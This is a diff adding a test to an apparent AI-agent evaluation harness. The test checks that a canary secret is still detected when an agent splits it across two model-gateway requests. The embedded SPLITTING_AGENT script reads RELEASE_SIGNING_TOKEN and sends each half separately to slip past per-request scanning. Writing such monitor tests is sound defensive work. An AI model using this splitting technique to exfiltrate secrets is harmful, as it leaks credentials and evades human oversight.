@@ -470,3 +470,41 @@ def test_an_episodes_max_cost_usd_sums_metered_spend(tmp_path: Path, standin: St
     [res] = results(tmp_path / "out")
     assert res["termination"] == "budget", (res, step)
     assert len(standin.requests()) == 1
+
+
+SPLITTING_AGENT = """\
+import json, os, urllib.request, urllib.error
+token = os.environ["RELEASE_SIGNING_TOKEN"]
+half = len(token) // 2
+base = json.loads(os.environ["EVALRIG_GATEWAY_UPSTREAMS"])["openai"]
+codes = []
+for part in (token[:half], token[half:]):  # neither half is the canary; joined in seq order they are
+    req = urllib.request.Request(base + "/chat/completions", data=part.encode(), headers={
+        "Content-Type": "application/json", "Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]})
+    try:
+        codes.append(urllib.request.urlopen(req, timeout=30).status)
+    except urllib.error.HTTPError as e:
+        codes.append(e.code)
+open(os.path.join(os.environ["EVALRIG_OUT"], "codes.json"), "w").write(json.dumps(codes))
+open(os.path.join(os.environ["EVALRIG_OUT"], "answer.txt"), "w").write("ok")
+"""
+
+
+def test_the_canary_split_across_calls_is_found_in_the_requests_joined(tmp_path: Path, standin: Standin) -> None:
+    """Each body alone is clean (and not JSON: refused 400, kept); joined in seq order they
+    hold the canary, which the attempt-end scan finds."""
+    home = tmp_path / "home"
+    ck = make_checkpoint(tmp_path / "ck", SPLITTING_AGENT)
+    with (ck / "checkpoint.toml").open("a") as f:
+        f.write('[models]\nallowed = ["openai/standin-small"]\n')
+    assert eval_sh(home, "seal", ck).code == 0
+    add_task(tmp_path / "tasks", "fixed", "t0")
+    eval_sh(home, "run", "--checkpoint", ck, "--tasks", tmp_path / "tasks", "--out", tmp_path / "out",
+            "--sandbox", "process", "--repeat", "1", "--gateway", _gateway_file(tmp_path, standin.port),
+            env={"STANDIN_KEY": KEY})
+    [res] = results(tmp_path / "out")
+    ev = tmp_path / "out" / "attempts" / str(res["attempt_id"])
+    assert json.loads((ev / "out" / "codes.json").read_text()) == [400, 400]
+    assert [c["refused"] for c in _lines(ev / "model.jsonl")] == ["invalid", "invalid"]
+    assert res["canary"]["found"] is True and res["canary"]["where"] == ["model/ (requests joined)"], res
+    assert standin.requests() == []
